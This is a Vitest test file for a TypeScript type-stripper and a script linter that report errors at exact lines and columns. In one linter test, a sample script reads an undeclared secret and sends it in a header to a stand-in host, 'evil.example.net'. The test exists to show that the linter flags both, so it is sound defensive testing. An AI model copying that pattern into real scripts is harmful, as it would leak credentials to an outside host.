import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { performance } from 'node:perf_hooks';
import { describe, expect, it } from 'vitest';
import { lintScript } from './lint-script';
import {
  detectLanguage,
  resolveLanguage,
  runnableScript,
  ScriptCompileError,
  stripTypes,
} from './typescript';

const typed = `interface Lead { id: string; score: number }
type Input = { min?: number };

export default async function run(input: Input, ctx: any): Promise<{ kept: number }> {
  const leads = [{ id: 'a', score: 3 }] as Lead[];
  const kept = leads.filter((lead: Lead) => lead.score >= (input.min ?? 0));
  return { kept: kept.length };
}
`;

describe('stripTypes', () => {
  it('removes the types and keeps every line and column where it was', () => {
    const stripped = stripTypes(typed);
    expect(stripped.ok).toBe(true);
    if (!stripped.ok) return;
    expect(stripped.code).not.toMatch(/interface|: Input|as Lead/);
    const before = typed.split('\n');
    const after = stripped.code.split('\n');
    expect(after).toHaveLength(before.length);
    after.forEach((line, index) => expect(line.length).toBe(before[index]!.length));
    // `kept` is at the same column of the same line in both.
    expect(after[5]!.indexOf('kept')).toBe(before[5]!.indexOf('kept'));
    // And it is JavaScript a module evaluator accepts.
    expect(() => new Function(stripped.code.replace('export default ', 'return '))).not.toThrow();
  });

  it('reports a TypeScript syntax error at its 1-based line and column', () => {
    const stripped = stripTypes('const a = 1;\nconst b: = 2;\n');
    expect(stripped).toEqual({
      ok: false,
      diagnostic: expect.objectContaining({ line: 2, column: 10, severity: 'error', ruleId: 'syntax' }),
    });
    if (!stripped.ok) expect(stripped.diagnostic.message).toMatch(/^Syntax error: Unexpected token `=`/);
  });

  it('counts columns in UTF-16 code units, as ESLint and V8 do, whatever characters come before', () => {
    for (const text of ["'ab'", "'é'", "'日本'", "'😀'", "'héllo😀日'"]) {
      const prefix = `const s = ${text}; `;
      const stripped = stripTypes(`// ${text}\n${prefix}enum E { A }\n`);
      expect(stripped.ok).toBe(false);
      if (stripped.ok) continue;
      expect(stripped.diagnostic).toMatchObject({
        line: 2,
        column: prefix.length + 1,
        endColumn: prefix.length + 13,
      });
    }
  });

  it('refuses the constructs that need code generation, each at its location, with the way out', () => {
    const cases = [
      { source: 'const x = 1;\nenum Color { Red, Green }\n', line: 2, column: 1, what: /enum/ },
      { source: 'namespace N { export const a = 1; }\n', line: 1, column: 1, what: /namespace/ },
      {
        source: 'class Lead {\n  constructor(private id: string) {}\n}\n',
        line: 2,
        column: 23,
        what: /parameter property/,
      },
    ];
    for (const { source, line, column, what } of cases) {
      const stripped = stripTypes(source);
      expect(stripped.ok).toBe(false);
      if (stripped.ok) continue;
      expect(stripped.diagnostic).toEqual(
        expect.objectContaining({ line, column, severity: 'error', ruleId: 'typescript-unsupported' }),
      );
      expect(stripped.diagnostic.message).toMatch(what);
      expect(stripped.diagnostic.message).toMatch(/type-stripped/);
      expect(stripped.diagnostic.message).not.toMatch(/strip-only mode/);
    }
  });
});

describe('detectLanguage', () => {
  it('calls a source TypeScript when stripping changes it', () => {
    expect(detectLanguage(typed)).toBe('typescript');
    expect(detectLanguage('export default async (input, ctx) => input as unknown;')).toBe('typescript');
    expect(detectLanguage('enum E { A }\nexport default async () => E.A;')).toBe('typescript');
  });

  it('keeps plain JavaScript JavaScript, including code that only looks like generics', () => {
    const js = [
      'export default async function run(input, ctx) { return input; }',
      'const a = 1, b = 2, c = 3;\nconst y = a < b > c;\nexport default async () => y;',
      '// types: none\nexport default async (input) => ({ ...input, at: new Date().toISOString() });',
    ];
    for (const source of js) expect(detectLanguage(source)).toBe('javascript');
  });

  it('leaves a source that parses as neither to the JavaScript parser', () => {
    expect(detectLanguage('export default async function run( {')).toBe('javascript');
  });

  it('honours a language that is given over detection', () => {
    expect(resolveLanguage(typed, 'javascript')).toBe('javascript');
    expect(resolveLanguage('export default async () => 1', 'typescript')).toBe('typescript');
    expect(resolveLanguage(typed)).toBe('typescript');
  });
});

describe('runnableScript', () => {
  it('returns JavaScript unchanged and TypeScript stripped', () => {
    const js = 'export default async () => 1;';
    expect(runnableScript(js, 'javascript')).toBe(js);
    expect(runnableScript(typed, 'typescript')).toBe((stripTypes(typed) as { code: string }).code);
  });

  it('throws a ScriptCompileError carrying the diagnostic for TypeScript that does not strip', () => {
    expect(() => runnableScript('enum E { A }\n', 'typescript')).toThrow(ScriptCompileError);
    try {
      runnableScript('const a = 1;\nenum E { A }\n', 'typescript');
    } catch (error) {
      expect((error as ScriptCompileError).diagnostic).toEqual(
        expect.objectContaining({ line: 2, column: 1, ruleId: 'typescript-unsupported' }),
      );
      expect((error as Error).message).toMatch(/^line 2:1: /);
    }
  });

  it('strips a typical 200-line script in a few milliseconds (the worker does it at every attempt)', () => {
    const lines = ['interface Row { id: string; total: number }', 'type Totals = Record<string, number>;'];
    for (let i = 0; lines.length < 197; i++) {
      lines.push(`function step${i}(rows: Row[], ctx: any): Totals {`);
      lines.push(
        `  const out: Totals = {}; for (const row of rows as Row[]) out[row.id] = row.total * ${i};`,
      );
      lines.push(`  return out;`, `}`);
    }
    lines.push('export default async function run(input: { rows: Row[] }, ctx: any) {');
    lines.push('  return step0(input.rows, ctx);', '}');
    const source = lines.join('\n');
    runnableScript(source, 'typescript'); // the first call instantiates the wasm module
    const runs = 20;
    const started = performance.now();
    for (let i = 0; i < runs; i++) runnableScript(source, 'typescript');
    const perScript = (performance.now() - started) / runs;
    // Measured 0.5 ms at best, 2.4 ms median on a loaded 2-core machine; the bound only guards against an order-of-magnitude change.
    expect(perScript).toBeLessThan(50);
  });
});

describe('lintScript on TypeScript', () => {
  const manifest = { permissions: { hosts: ['crm.example.com'], secrets: ['CRM_TOKEN'] } };

  it('lints the TypeScript example of docs/scripts.md clean', () => {
    const docs = readFileSync(fileURLToPath(new URL('../../../docs/scripts.md', import.meta.url)), 'utf8');
    const example = /## TypeScript[\s\S]*?```ts\n([\s\S]*?)```/.exec(docs)?.[1];
    expect(example).toContain('interface Lead');
    expect(lintScript({ source: example!, manifest })).toMatchObject({
      ok: true,
      language: 'typescript',
      diagnostics: [],
    });
  });

  it('lints a clean TypeScript script clean, and says it linted TypeScript', () => {
    const result = lintScript({ source: typed, manifest });
    expect(result).toEqual(expect.objectContaining({ ok: true, language: 'typescript', diagnostics: [] }));
    expect(lintScript('export default async () => 1', manifest).language).toBe('javascript');
  });

  it('reports a TypeScript syntax error with its location, as the only script diagnostic', () => {
    const result = lintScript({
      source: 'export default async function run(input: string, ctx) {\n  const n: number = ;\n}\n',
      manifest,
      language: 'typescript',
    });
    expect(result.ok).toBe(false);
    expect(result.diagnostics).toEqual([
      expect.objectContaining({ line: 2, column: 21, ruleId: 'syntax', severity: 'error' }),
    ]);
  });

  it('refuses an enum at its location', () => {
    const result = lintScript({
      source: 'enum Level { Low, High }\nexport default async (input: unknown, ctx: any) => Level.High;\n',
      manifest,
    });
    expect(result.language).toBe('typescript');
    expect(result.ok).toBe(false);
    expect(result.diagnostics).toEqual([
      expect.objectContaining({
        line: 1,
        column: 1,
        endLine: 1,
        endColumn: 25,
        ruleId: 'typescript-unsupported',
      }),
    ]);
  });

  it('runs the script rules on the stripped code, at the TypeScript line and column', () => {
    const source = [
      'type Lead = { id: string };',
      'export default async function run(input: { ids: string[] }, ctx: any): Promise<number> {',
      "  const token: string = await ctx.secrets.get('OTHER_TOKEN');",
      "  const res: Response = await ctx.fetch('https://evil.example.net/x', { headers: { t: token } });",
      '  const leads = (await res.json()) as Lead[];',
      '  return leads.length + missing;',
      '}',
    ].join('\n');
    const result = lintScript({ source, manifest, language: 'typescript' });
    expect(result.ok).toBe(false);
    const at = (ruleId: string) =>
      result.diagnostics.filter((d) => d.ruleId === ruleId).map((d) => [d.line, d.column]);
    expect(at('mendflow/undeclared-secret')).toEqual([[3, source.split('\n')[2]!.indexOf("'OTHER") + 1]]);
    expect(at('mendflow/undeclared-host')).toEqual([[4, source.split('\n')[3]!.indexOf("'https") + 1]]);
    expect(at('no-undef')).toEqual([[6, source.split('\n')[5]!.indexOf('missing') + 1]]);
  });

  it('lints TypeScript given as JavaScript as the JavaScript parser sees it', () => {
    const result = lintScript({ source: typed, manifest, language: 'javascript' });
    expect(result.language).toBe('javascript');
    expect(result.diagnostics).toEqual([expect.objectContaining({ line: 1, ruleId: 'syntax' })]);
  });
});
